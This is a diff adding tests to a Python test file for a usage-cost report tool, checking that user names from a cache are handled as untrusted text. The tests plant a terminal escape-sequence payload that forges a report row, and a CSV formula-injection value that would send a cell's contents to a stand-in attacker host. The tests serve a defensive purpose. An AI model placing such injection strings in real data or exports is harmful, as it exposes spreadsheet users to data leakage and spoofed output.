@@ -141,3 +141,36 @@ def test_a_plugin_that_fails_to_import_stops_the_report_unless_skipped(tmp_path)
     assert skipped.exit_code == 0, skipped.output
     assert f"Warning: plugin {tmp_path / 'plugins' / 'typo.py'} skipped: ImportError" in skipped.stderr
     assert "Total on-demand spend: $4.20" in skipped.stdout
+
+
+# --- names from the cache are untrusted text (issue 11) ----------------------------------------
+
+
+def _rename_user(analysis_config, old, new):
+    """Every event of ``old`` in the copied cache now comes from ``new``."""
+    for path in (analysis_config.parent / "analysis-cache").glob("*-usage-based-data.json"):
+        document = json.loads(path.read_text(encoding="utf-8"))
+        for event in document["events"]:
+            if event.get("userEmail") == old:
+                event["userEmail"] = new
+        path.write_text(json.dumps(document), encoding="utf-8")
+
+
+def test_a_name_with_escape_sequences_and_line_breaks_reaches_the_terminal_harmless(analysis_config):
+    _rename_user(analysis_config, "b@example.com", "b\x1b]0;owned\x07@example.com\x1b[2J\n9  boss@example.com  $0.01")
+    result = _run(analysis_config)
+    assert result.exit_code == 0, result.output
+    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
+    assert "Top spender:           b@example.com 9  boss@example.com  $0.01  ($1.86 in total)" in result.stdout
+    assert not any(line.startswith("9  boss") for line in result.stdout.splitlines())  # no faked row
+
+
+def test_csv_of_a_table_quotes_a_name_that_would_run_as_a_formula(analysis_config):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"b")'
+    _rename_user(analysis_config, "b@example.com", formula)
+    result = _run(analysis_config, "--format", "csv", "--section", "top-cost-users")
+    assert result.exit_code == 0, result.output
+    rows = list(__import__("csv").reader(result.stdout.splitlines()))
+    assert ["1", "'" + formula] == rows[1][:2] and rows[1][2] == "1.85625000"
+    json_result = _run(analysis_config, "--format", "json", "--section", "top-cost-users")
+    assert json.loads(json_result.stdout)["sections"][0]["tables"][0]["rows"][0]["user"] == formula
